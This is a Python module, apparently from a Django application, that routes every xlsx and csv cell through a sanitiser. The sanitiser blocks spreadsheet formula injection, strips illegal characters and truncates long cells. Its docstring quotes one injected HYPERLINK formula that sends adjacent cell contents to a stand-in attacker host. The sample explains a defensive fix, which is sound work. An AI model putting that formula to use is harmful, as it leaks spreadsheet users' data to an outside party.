"""The one safe writer: every cell of every xlsx or csv file the product writes goes through ``safe_cell``.

Why. A spreadsheet program runs what looks like a formula: openpyxl writes any string starting with ``=``
as a formula (a resident's ticket description ``=HYPERLINK("http://evil.example/?d="&R2&S2,"…")`` came
back as a live link carrying the cells beside it), and Excel and LibreOffice run a csv cell or a re-edited
text cell starting with ``= + - @`` (or a tab or CR before them). And one control character (``\\x0b``)
in a stored text made openpyxl raise ``IllegalCharacterError``: the whole export answered 500.

What ``safe_cell`` does:

- text starting with ``= + - @``, a tab or a CR (and the full-width ``＝ ＋ － ＠`` a Chinese input method
  types) gets a leading apostrophe ``'``, as OWASP's CSV-injection advice and the spreadsheet programs'
  own “text” marker have it, so it reads as text even when a clerk re-edits or re-saves it as csv;
  ``-3`` or ``+86 139…`` typed as text are prefixed too (text that looks like a number is still text);
- characters XML 1.0 cannot hold are removed: the C0 controls but tab, LF and CR (NUL included; the set
  of ``openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE``), lone surrogates, U+FFFE and U+FFFF;
- text is cut to Excel's 32 767 characters per cell;
- numbers (negative ones too), booleans, dates, times and ``None`` pass unchanged; an aware date-time is
  written in local time (Excel has no time zones; openpyxl refuses them); NaN and infinities are left
  empty; anything else (a lazy translation, an enum) is written as its text, by the rules above.

In an xlsx every text cell is also stored with the string data type (``t="inlineStr"``), never ``f``
(formula) or ``e`` (error: ``#N/A`` typed by a resident stays text): read back by openpyxl or
python-calamine, a cell holds the text written, apostrophe included.

How it cannot be forgotten: the other modules never touch openpyxl's ``Workbook`` or ``csv.writer``;
they get a ``SafeWorkbook`` (``new_workbook``), whose sheets are ``SafeSheet``\\ s (``append`` and
``cell(row, column, value)`` run ``safe_cell``), or a ``SafeCsvWriter``. ``core/tests/test_cells.py``
scans the code and fails on a module outside this one that imports openpyxl's ``Workbook``/``Cell``,
calls ``csv.writer``, assigns a cell's ``.value`` or opens a workbook with ``load_workbook`` for writing.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import IO, Any

from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE, Cell

# What a spreadsheet program reads as the start of a formula (or, tab and CR, skips before one).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
TEXT_PREFIX = "'"
# openpyxl's own set (C0 controls but tab, LF, CR; NUL among them), lone surrogates, U+FFFE and U+FFFF.
ILLEGAL = re.compile(f"{ILLEGAL_CHARACTERS_RE.pattern}|[\ud800-\udfff\ufffe\uffff]")
MAX_CELL_CHARS = 32_767  # Excel's limit; a longer cell makes Excel “repair” the file
_ERROR_CODES = frozenset(ERROR_CODES)  # text openpyxl would store as an error value (#N/A)

CellValue = str | int | float | Decimal | bool | dt.datetime | dt.date | dt.time | dt.timedelta | None
_PASS = frozenset({bool, int, dt.date, dt.time, dt.timedelta})  # exactly these types, as they are


# Either of the two things to change, in one pass over the text (the common text has neither).
_UNSAFE = re.compile(f"{ILLEGAL.pattern}|^[{re.escape(''.join(FORMULA_STARTS))}]")


def safe_text(text: str) -> str:
    """Text as it may stand in a cell: illegal characters removed, a formula start prefixed, cut to fit."""
    if _UNSAFE.search(text) is None:
        return text if len(text) <= MAX_CELL_CHARS else text[:MAX_CELL_CHARS]
    text = ILLEGAL.sub("", text)
    if text.startswith(FORMULA_STARTS):
        text = TEXT_PREFIX + text
    return text[:MAX_CELL_CHARS]


def safe_cell(value: object) -> CellValue:
    """The value as it is written into a cell (see the module's docstring)."""
    if value is None or type(value) in _PASS:
        return value  # type: ignore[return-value]
    if isinstance(value, str):
        return safe_text(str.__str__(value))  # a str subclass (a choice) as plain text
    if isinstance(value, dt.datetime):
        return timezone.localtime(value).replace(tzinfo=None) if value.tzinfo is not None else value
    if isinstance(value, bool):
        return bool(value)
    if isinstance(value, int):
        return int(value)  # an IntEnum as its number
    if isinstance(value, float):
        return float(value) if math.isfinite(value) else None
    if isinstance(value, Decimal):
        return value if value.is_finite() else None
    if isinstance(value, dt.date | dt.time | dt.timedelta):
        return value
    return safe_text(str(value))


def _xlsx_value(ws: Any, value: object) -> Any:
    """A value for openpyxl's ``append``: text that openpyxl would take for an error code (``#N/A``) as a
    cell of string type; every other text cannot start with ``=`` any more, so openpyxl keeps it text."""
    clean = safe_cell(value)
    if isinstance(clean, str) and clean in _ERROR_CODES:
        cell = Cell(ws, row=1, column=1, value=clean)  # placed by append
        cell.data_type = "s"
        return cell
    return clean


class SafeSheet:
    """A worksheet (normal or write-only) whose values go in only through ``safe_cell``. Everything else
    (widths, ``freeze_panes``, drop-downs, styling a cell) is the openpyxl worksheet's, as ``raw``."""

    __slots__ = ("raw",)

    def __init__(self, raw: Any) -> None:
        object.__setattr__(self, "raw", raw)

    def append(self, values: Iterable[object]) -> None:
        raw = self.raw
        row: list[Any] = []
        for value in values:  # _xlsx_value, with the common text and None inline (50 000-row exports)
            if type(value) is str and _UNSAFE.search(value) is None and len(value) <= MAX_CELL_CHARS:
                row.append(value if value not in _ERROR_CODES else _xlsx_value(raw, value))
            else:
                row.append(None if value is None else _xlsx_value(raw, value))
        raw.append(row)

    def cell(self, row: int, column: int, value: object = None) -> Any:
        """The cell at (row, column) of a normal sheet, to style; ``value``, if given, written safely."""
        cell = self.raw.cell(row=row, column=column)
        if value is not None:
            clean = safe_cell(value)
            cell.value = clean
            if isinstance(clean, str):
                cell.data_type = "s"
        return cell

    def __getitem__(self, key: str) -> Any:
        return self.raw[key]

    def __getattr__(self, name: str) -> Any:
        return getattr(self.raw, name)

    def __setattr__(self, name: str, value: Any) -> None:
        setattr(self.raw, name, value)


class SafeWorkbook:
    """openpyxl's ``Workbook`` handing out ``SafeSheet``\\ s; ``to_bytes()`` saves it."""

    def __init__(self, *, write_only: bool = False) -> None:
        self.raw = Workbook(write_only=write_only)

    @property
    def active(self) -> SafeSheet:
        sheet = self.raw.active
        assert sheet is not None, "a write-only workbook has no active sheet: create_sheet"
        return SafeSheet(sheet)

    def create_sheet(self, title: str) -> SafeSheet:
        return SafeSheet(self.raw.create_sheet(title))

    def __getitem__(self, title: str) -> SafeSheet:
        return SafeSheet(self.raw[title])

    @property
    def sheetnames(self) -> list[str]:
        return list(self.raw.sheetnames)

    def to_bytes(self) -> bytes:
        buf = io.BytesIO()
        self.raw.save(buf)
        return buf.getvalue()


def new_workbook(*, write_only: bool = False) -> SafeWorkbook:
    """The one way to start a workbook to be written. Write-only streams rows (an export of 50 000 rows);
    a normal one is needed for styled header cells, drop-downs and several sheets filled in any order."""
    return SafeWorkbook(write_only=write_only)


class SafeCsvWriter:
    """``csv.writer`` whose rows go through ``safe_cell`` (``None`` written as an empty field)."""

    def __init__(self, stream: IO[str], **fmtparams: Any) -> None:
        self._writer = csv.writer(stream, **fmtparams)

    def writerow(self, values: Iterable[object]) -> None:
        self._writer.writerow(["" if (v := safe_cell(value)) is None else v for value in values])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)
